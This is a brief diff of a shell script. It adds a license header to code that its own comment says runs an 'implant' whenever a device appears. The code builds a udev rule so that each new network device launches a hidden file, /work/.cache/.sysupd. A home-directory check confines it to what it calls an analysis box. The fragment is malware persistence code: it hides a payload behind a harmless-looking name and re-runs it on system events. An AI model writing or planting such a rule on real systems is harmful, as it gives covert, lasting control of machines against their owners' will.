@@ -1,4 +1,5 @@
 #!/bin/sh
+# SPDX-License-Identifier: MIT
 # Runs the implant whenever a device appears: a udev rule with RUN+=.
 [ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 rule='ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c /work/.cache/.sysupd"'
